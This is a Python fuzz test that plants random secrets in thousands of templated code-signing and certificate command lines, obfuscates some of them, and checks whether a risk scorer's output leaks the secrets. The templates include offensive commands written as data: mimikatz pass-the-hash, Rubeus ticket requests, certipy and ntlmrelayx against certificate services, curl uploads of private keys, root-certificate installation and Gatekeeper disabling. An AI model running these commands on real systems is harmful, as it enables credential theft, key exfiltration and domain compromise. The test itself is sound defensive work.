"""Command lines with a planted secret, and the question whether any output field shows it.

Every line is made of a command, a place in it for a secret, and wrappers around it. The places are those that tools
document, and options that no tool has but that say what they hold. Run it at length:

    python -m tests.fuzz.secrets --events 50000 --seed 1
"""

# Commands are as long as they are.
# ruff: noqa: E501

from __future__ import annotations

import argparse
import base64
import random
import string
import sys
from collections import Counter
from collections.abc import Callable, Iterator, Mapping
from pathlib import Path
from typing import TYPE_CHECKING, Any, NamedTuple

if __name__ == "__main__":
    sys.path[:0] = [str(Path(__file__).resolve().parents[2] / "bin"), str(Path(__file__).resolve().parents[2])]

from codesignrisk_core import settings
from codesignrisk_core.scorer import Scorer

if TYPE_CHECKING:
    from lab.cases.lines import MaskedLines

LOOKUPS = Path(__file__).resolve().parents[2] / "lookups"


class Planted(NamedTuple):
    """A record and the secret in it; shape: the template and wrappers that it was made with."""

    secret: str
    record: dict[str, Any]
    shape: str


# How the backup key of a domain begins as Base64 (PVK: magic, and the head of its RSA blob), here {b} in a template.
BLOB = "HvG1sAAAAAABAAAAAAAAAAAAAACUBAAABwIAAACkAABSU0EyAAgAAAEAAQDB2kq7"

# {s} is the secret. What is not a secret must not look like one.
DOCUMENTED = r"""
signtool sign /f a.pfx /p {s} x.exe
signtool.exe sign /f C:\keys\a.pfx /p:{s} /fd sha256 C:\out\x.exe
"C:\Kits\signtool.exe" sign -f a.pfx -p "{s}" "C:\Program Files\x.exe"
signtool sign /f a.cer /csp "eToken Base Cryptographic Provider" /kc "[SafeNet Token JC 0{{{{{s}}}}}]=c1" x.exe
signtool sign /f a.cer /csp eToken /kc [SafeNet{{{{{s}}}}}]=c1 x.exe
signtool sign /f https://jane:{s}@web.example/k.pfx x.exe
signtool sign /f https://{s}@web.example/k.pfx x.exe
signtool sign /f https://web.example/k.pfx?sig={s} x.exe
signtool sign /f "https://web.example/k.pfx?sv=2020&sig={s}&se=1" x.exe
signtool sign /f https://web.example/k.pfx#{s} x.exe
certutil -p {s} -importpfx a.pfx
certutil -f -importpfx -p {s} root a.pfx
certutil -importpfx a.pfx -p {s}
certutil -exportpfx -p {s} my 12ab C:\Users\Public\out.pfx
certutil -exportpfx -p "{s},{s}" my 12ab out.pfx
certutil -mergepfx -p {s},other a.cer out.pfx
certutil -pin {s} -repairstore my 12ab
certutil -addstore root https://web.example/k.cer?token={s}
certutil -addstore root https://web.example/k.cer?{s}
certutil -urlcache -split -f https://jane:{s}@web.example/k.pfx C:\Users\Public\k.pfx
openssl pkcs12 -in a.pfx -nodes -passin pass:{s} -out k.pem
openssl pkcs12 -export -inkey k.pem -in a.cer -out a.pfx -passout pass:{s}
openssl pkcs12 -in a.pfx -nodes -password pass:{s} -out k.pem
openssl req -x509 -newkey rsa:2048 -keyout k.pem -out a.cer -passout pass:{s} -subj /CN=x
osslsigncode sign -pkcs12 a.pfx -pass {s} -in x.exe -out y.exe
osslsigncode sign -pkcs12 a.pfx -pass={s} -in x.exe -out y.exe
keytool -importkeystore -srckeystore a.pfx -srcstorepass {s} -destkeystore b.jks -deststorepass {s}
keytool -genkeypair -alias x -keystore b.jks -storepass {s} -keypass {s}
jarsigner -keystore b.jks -storepass {s} -keypass {s} x.jar alias
jarsigner -keystore b.jks -storepass:{s} x.jar alias
jsign --keystore a.pfx --storepass {s} x.exe
azuresigntool sign -kvu https://v.vault.example -kvi 1 -kvs {s} -kvc c x.exe
azuresigntool sign -kvu https://v.vault.example -kva {s} -kvc c x.exe
nuget sign x.nupkg -CertificatePath a.pfx -CertificatePassword {s}
dotnet nuget sign x.nupkg --certificate-path a.pfx --certificate-password {s}
rcodesign sign --p12-file a.p12 --p12-password {s} x.app
smctl sign --fingerprint 12ab --input x.exe --api-key {s}
smctl sign --fingerprint 12ab --input x.exe --client-cert-password {s}
pvk2pfx -pvk a.pvk -pi {s} -spc a.cer -pfx a.pfx -po {s}
security import a.p12 -k login.keychain -P {s} -T /usr/bin/codesign
security unlock-keychain -p {s} login.keychain
7z a -p{s} x.7z C:\keys\k.pfx
rar a -hp{s} x.rar C:\keys\k.pfx
curl -u jane:{s} -T C:\keys\k.pfx https://web.example/
curl -F file=@C:\keys\k.pfx https://web.example/up?token={s}
curl --oauth2-bearer {s} -T C:\keys\k.pfx https://web.example/
curl -H "Authorization: Bearer {s}" -T C:\keys\k.pfx https://web.example/
psexec \\srv -u jane -p {s} certutil -addstore root C:\Users\Public\x.cer
wmic /node:srv /user:jane /password:{s} process call create "certutil -addstore root C:\Users\Public\x.cer"
schtasks /create /tn x /ru jane /rp {s} /tr "certutil -addstore root C:\Users\Public\x.cer"
winrs -r:srv -u:jane -p:{s} certutil -addstore root C:\Users\Public\x.cer
cmd /c set PW={s}&& signtool sign /f a.pfx /p %PW% x.exe
cmd /c "set PASSWORD={s}& signtool sign /f a.pfx /p %PASSWORD% x.exe"
cmd /c net use \\srv\share {s} /user:jane && copy C:\keys\k.pfx \\srv\share
cmd /c net use \\srv\share /user:jane {s} && copy C:\keys\k.pfx \\srv\share
sh -c 'PW={s} osslsigncode sign -pkcs12 a.pfx -pass $PW -in x.exe -out y.exe'
sh -c 'export API_TOKEN={s}; osslsigncode sign -pkcs12 a.pfx -pass $API_TOKEN -in x.exe -out y.exe'
sh -c 'echo {s} | sudo -S spctl --master-disable'
sh -c 'printf "%s\n" {s} | openssl pkcs12 -in a.pfx -passin stdin -nodes -out k.pem'
sh -c 'echo "{s}" | gpg --batch --passphrase-fd 0 --export-secret-keys -o /tmp/k.gpg'
bash -c 'sudo -S security add-trusted-cert -d -r trustRoot -k /Library/Keychains/System.keychain /tmp/a.cer <<< {s}'
bash -c 'vault login {s}; osslsigncode sign -pkcs12 a.pfx -in x.exe -out y.exe'
osascript -e 'do shell script "spctl --master-disable" user name "jane" password "{s}" with administrator privileges'
osascript -e "do shell script \"spctl --master-disable\" user name \"jane\" password \"{s}\" with administrator privileges"
bash -c 'openssl pkcs12 -in a.pfx -nodes -out k.pem -passin file:<(echo {s})'
bash -c 'openssl pkcs12 -in a.pfx -nodes -out k.pem -passin file:<(printf %s "{s}")'
bash -c 'openssl pkcs12 -in a.pfx -nodes -out k.pem -passin file:<(echo {s} | tr -d "\n")'
bash -c 'openssl pkcs12 -in a.pfx -nodes -out k.pem -passin fd:3 3<<<{s}'
bash -c 'openssl pkcs12 -in a.pfx -nodes -out k.pem -passin fd:3 3< <(echo {s})'
bash -c 'exec 3<<<{s}; openssl pkcs12 -in a.pfx -nodes -out k.pem -passin fd:3'
bash -c 'openssl pkcs12 -in a.pfx -nodes -out k.pem -passin stdin < <(cat <<< {s})'
bash -c 'osslsigncode sign -pkcs12 a.p12 -readpass <(echo {s}) -in x.exe -out y.exe'
bash -c 'gpg --batch --passphrase-fd 3 --export-secret-keys -o /tmp/k.gpg 3<<<{s}'
SharpDPAPI.exe certificates /pvk:{b}{s}
SharpDPAPI.exe certificates {11111111-1111-1111-1111-111111111111}:{s}
SharpDPAPI.exe certificates /ntlm:{s}
SharpDPAPI.exe certificates /password:{s}
Rubeus.exe asktgt /user:jane /certificate:{b}{s} /ptt
Rubeus.exe asktgt /user:jane /certificate:a.pfx /password:{s}
Rubeus.exe asktgt /user:jane /certificate:a.pfx /rc4:{s} /aes256:{s} /des:{s}
x.exe asktgt /user:jane /certificate:{b}{s} /ptt
certipy auth -pfx a.pfx -ldap-shell -hashes :{s}
certipy req -u jane -p {s} -ca CA -template User
certipy shadow auto -u jane@corp -hashes {s}:{s} -account x
certipy ca -u jane -aes {s} -ca CA -enable-template x
mimikatz "crypto::certificates /export" "sekurlsa::pth /user:jane /ntlm:{s} /rc4:{s} /aes256:{s}" exit
nxc ldap srv -u jane -H {s} -M adcs
netexec ldap srv -u jane -H :{s} --aesKey {s} -M certipy-find
ntlmrelayx.py -t http://ca/certsrv/certfnsh.asp --adcs -hashes {s}:{s}
dploot certificates -d corp -u jane -hashes :{s} -aesKey {s} srv
donpapi collect -u jane -H {s} -t srv
DonPAPI.py corp/jane:{s}@srv
python3 gettgtpkinit.py corp/jane -pfx-base64 {b}{s} out.ccache
python3 gettgtpkinit.py corp/jane -cert-pfx a.pfx -pfx-pass {s} out.ccache
Whisker.exe add /target:x /password:{s}
python3 pywhisker.py -d corp -u jane -p {s} --target x --action add
python3 pywhisker.py -d corp -u jane -H {s} --target x --action add --pfx-password {s}
""".strip().splitlines()

SCRIPTS = r"""
Import-PfxCertificate -FilePath a.pfx -Password (ConvertTo-SecureString '{s}' -AsPlainText -Force) -CertStoreLocation Cert:\LocalMachine\Root
Import-PfxCertificate -FilePath a.pfx -Password (ConvertTo-SecureString -String "{s}" -AsPlainText -Force) -CertStoreLocation Cert:\LocalMachine\Root
$pw = ConvertTo-SecureString '{s}' -AsPlainText -Force; Export-PfxCertificate -Cert Cert:\CurrentUser\My\12ab -FilePath C:\Users\Public\k.pfx -Password $pw
$env:PFX_PASSWORD='{s}'; signtool sign /f a.pfx /p $env:PFX_PASSWORD x.exe
$c = New-Object System.Security.Cryptography.X509Certificates.X509Certificate2('a.pfx','{s}'); Set-AuthenticodeSignature x.ps1 $c
[System.Security.Cryptography.X509Certificates.X509Certificate2]::new('a.pfx','{s}','Exportable'); certutil -addstore root C:\Users\Public\x.cer
Invoke-WebRequest https://jane:{s}@web.example/k.pfx -OutFile C:\Users\Public\k.pfx; certutil -importpfx C:\Users\Public\k.pfx
Invoke-WebRequest "https://web.example/k.pfx?sig={s}" -OutFile C:\Users\Public\k.pfx; certutil -importpfx C:\Users\Public\k.pfx
certutil -p {s} -importpfx a.pfx
& signtool.exe sign /f a.pfx /p {s} x.exe
""".strip().splitlines()

# Commands with a place {o} where any option may stand, as an attacker, a wrapper script or a newer version writes it.
OPEN = r"""
signtool sign {o} /f a.pfx x.exe
signtool sign /f a.pfx {o} x.exe
signtool sign /f a.pfx x.exe {o}
certutil {o} -addstore root C:\Users\Public\x.cer
certutil -addstore {o} root C:\Users\Public\x.cer
certutil -addstore root C:\Users\Public\x.cer {o}
certutil -importpfx {o} a.pfx
certutil -exportpfx {o} my 12ab out.pfx
certmgr -add {o} a.cer -s -r localMachine root
certmgr.exe /add a.cer {o} /s root
smctl sign {o} --fingerprint 12ab --input x.exe
smctl sign --fingerprint 12ab --input x.exe {o}
jarsigner {o} -keystore b.jks x.jar alias
jarsigner -keystore b.jks x.jar alias {o}
azuresigntool sign {o} -kvu https://v.vault.example x.exe
jsign {o} --keystore a.pfx x.exe
rcodesign sign {o} --p12-file a.p12 x.app
nuget sign x.nupkg {o}
dotnet sign code azure-key-vault {o} x.exe
osslsigncode sign -pkcs12 a.pfx {o} -in x.exe -out y.exe
keytool -importcert -cacerts -file a.cer {o}
codesign -s - {o} /Applications/x.app
security add-trusted-cert -d {o} a.cer
makecert {o} -r -n CN=x a.cer
pvk2pfx -pvk a.pvk {o} -spc a.cer -pfx a.pfx
certreq -new {o} a.inf a.req
xcopy C:\keys\k.pfx \\srv\share {o}
rundll32 cryptext.dll,CryptExtAddPFX C:\keys\a.pfx {o}
""".strip().splitlines()

OPTIONS = """
p password passphrase pass pwd pin api-key apikey token access-token auth-token secret client-secret
client-cert-password certificate-password storepass keypass srcstorepass keystore-password pfx-password kva kvs
oauth2-bearer sas-token key-password PfxPassword CertPassword certpass signing_secret vault_token
""".split()

ASSIGNMENTS = [
    "PW={s}",
    "password={s}",
    "token={s}",
    "API_KEY={s}",
    "pass:{s}",
    "--secret={s}",
    "https://h.example/?sig={s}",
]


def _alphabets(rng: random.Random) -> str:
    letters, digits = string.ascii_letters, string.digits
    alphabet = rng.choice((letters + digits, letters + digits + "-_.~!+", string.hexdigits, letters + digits + "/+"))
    length = rng.choice((9, 12, 16, 24, 44, 300, 1_500))
    return rng.choice(letters) + "".join(rng.choice(alphabet) for _ in range(length - 3)) + rng.choice(letters) + "9"


def _encoded(line: str) -> str:
    return base64.b64encode(line.encode("utf-16-le")).decode()


def _carets(line: str) -> str:
    return "".join(f"^{char}" if char.isalpha() and number % 3 == 0 else char for number, char in enumerate(line))


# Each wraps one line in another program. Names for the shape of a finding.
WRAPPERS: dict[str, Callable[[str], str]] = {
    "bare": lambda line: line,
    "cmd": lambda line: f"cmd /c {line}",
    "cmd quoted": lambda line: f'C:\\Windows\\System32\\cmd.exe /s /c "{line}"',
    "cmd carets": lambda line: f"cmd /c {_carets(line)}",
    "powershell": lambda line: f"powershell -NoProfile -Command {line}",
    "powershell encoded": lambda line: f"powershell -enc {_encoded(line)}",
    "sh": lambda line: "sh -c '" + line.replace("'", "'\\''") + "'",
    "forfiles": lambda line: (
        f'forfiles /p C:\\Windows /m notepad.exe /c "{line}"'.replace('"', "0x22")
        if '"' in line
        else f'forfiles /p C:\\Windows /m notepad.exe /c "{line}"'
    ),
    "conhost": lambda line: f"conhost.exe {line}",
    "start": lambda line: f'cmd /c start "" /b {line}',
    "wmic": lambda line: f'wmic process call create "{line}"',
    "schtasks": lambda line: f'schtasks /create /tn x /sc once /st 00:00 /tr "{line}"',
    "unknown": lambda line: f'updater.exe --run "{line}"',
}


def planted(events: int, seed: int) -> Iterator[Planted]:
    """So many records, each with a secret of its own."""
    rng = random.Random(seed)
    for _ in range(events):
        secret = _alphabets(rng)
        kind = rng.random()
        if kind < 0.2:
            template = rng.choice(SCRIPTS)
            secret = secret.replace("/", "-") if "{s}@web" in template else secret
            text = template.replace("{s}", secret)
            yield Planted(secret, _script(text) if rng.random() < 0.5 else _process(f"powershell -c {text}"), template)
            continue
        if kind < 0.6:
            template = rng.choice(DOCUMENTED)
        else:
            template = rng.choice(OPEN)
            # -p of add-trusted-cert is a policy
            known = [name for name in OPTIONS if not (name == "p" and "add-trusted-cert" in template)]
            option = rng.choice(("-", "--", "/")) + rng.choice(known) + rng.choice((" ", "=", ":")) + "{s}"
            template = template.replace("{o}", rng.choice((option, option, rng.choice(ASSIGNMENTS))))
        if "{s}@web" in template:  # a slash would end the login
            secret = secret.replace("/", "-")
        line = template.replace("{{{{", "{{").replace("}}}}", "}}").replace("{s}", secret).replace("{b}", BLOB)
        # the carets leave no quotes around a redirection: cmd would take it for its own
        known = [name for name in WRAPPERS if not (name == "cmd carets" and "<" in line)]
        wrappers = [rng.choice(known) for _ in range(rng.choice((0, 1, 1, 2)))]
        for name in wrappers:
            line = WRAPPERS[name](line)
        yield Planted(secret, _process(line), " < ".join([template, *wrappers]))


def _process(line: str) -> dict[str, Any]:
    return {
        "EventCode": "1",
        "Channel": "Microsoft-Windows-Sysmon/Operational",
        "CommandLine": line,
        "CurrentDirectory": "C:\\work\\",
        "ParentImage": "C:\\Windows\\explorer.exe",
        "User": "CONTOSO\\jane",
    }


def _script(text: str) -> dict[str, Any]:
    return {"EventCode": "4104", "Channel": "Microsoft-Windows-PowerShell/Operational", "ScriptBlockText": text}


def shown(secret: str, verdict: Mapping[str, Any]) -> list[str]:
    """The fields in which a secret, either end of it, or a part that a path would show, can be read."""
    lower = secret.lower()
    forms = {lower, lower.replace("/", "\\")} | {part for part in lower.split("/") if len(part) >= 8}
    forms |= {lower[:16], lower[-16:]} if len(lower) > 40 else set()
    return [
        name
        for name, value in verdict.items()
        if any(form in str(value).lower().replace("\\\\", "\\") for form in forms)
    ]


def with_line(verdict: Mapping[str, Any], record: Mapping[str, Any], lines: MaskedLines) -> dict[str, Any]:
    """A verdict with the command line as the lab's table and report show it, if the event scores."""
    result = dict(verdict)
    if verdict["codesign_score"]:
        result["line"] = lines.of({**record, **verdict})
    return result


def leaks(events: int, seed: int) -> Iterator[tuple[Planted, list[str], Mapping[str, Any]]]:
    """The records whose secret some field shows."""
    from lab.cases.lines import MaskedLines  # the lab runs on Python 3.11, the planted lines are looked at on 3.9, too

    scorer, lines = Scorer(settings.load(LOOKUPS)), MaskedLines()
    for event in planted(events, seed):
        verdict = with_line(scorer.assess(event.record), event.record, lines)
        fields = shown(event.secret, verdict)
        if fields:
            yield event, fields, verdict


def main() -> int:
    """Tell each shape that shows a secret, once. Returns 1 if any does."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--events", type=int, default=50_000)
    parser.add_argument("--seed", type=int, default=1)
    args = parser.parse_args()
    shapes: Counter[str] = Counter()
    for event, fields, verdict in leaks(args.events, args.seed):
        shapes[event.shape] += 1
        if shapes[event.shape] == 1:
            told = {name: verdict[name] for name in fields}
            sys.stdout.write(f"{event.shape}\n    {event.secret}\n    {event.record}\n    {told}\n")
    sys.stdout.write(f"{args.events} secrets, {sum(shapes.values())} seen\n")
    return 1 if shapes else 0


if __name__ == "__main__":
    sys.exit(main())
